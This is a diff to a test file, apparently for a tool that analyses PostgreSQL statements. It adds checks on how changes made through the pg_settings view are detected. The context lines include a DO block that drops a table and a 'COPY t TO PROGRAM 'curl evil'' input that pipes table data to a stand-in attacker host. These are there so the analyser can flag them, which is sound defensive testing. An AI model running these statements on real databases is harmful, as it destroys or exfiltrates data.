@@ -93,6 +93,20 @@ describe("statement facts", () => {
     expect(one("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE").requestsReadWrite).toBe(true);
   });
 
+  it("reads a view over pg_settings as a change of a setting nobody can name, and a read of it as none", () => {
+    const changes = [{ name: "*", value: null, via: "pg_settings" }];
+    expect(one("UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'x'").settings).toEqual(
+      changes,
+    );
+    expect(one("CREATE TEMP VIEW s AS SELECT * FROM pg_settings").settings).toEqual(changes);
+    expect(one("CREATE OR REPLACE VIEW s AS SELECT name FROM pg_catalog.pg_settings").settings).toEqual(
+      changes,
+    );
+    expect(one("SELECT name, setting FROM pg_settings").settings).toEqual([]);
+    expect(one("CREATE VIEW s AS SELECT * FROM other.pg_settings").settings).toEqual([]);
+    expect(one("CREATE TEMP TABLE s AS SELECT * FROM pg_settings").settings).toEqual([]);
+  });
+
   it("marks what it cannot see into", () => {
     expect(one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").opaque[0]?.construct).toBe("DO block");
     expect(one("COPY t TO PROGRAM 'curl evil'").serverFileAccess).toBe("program");
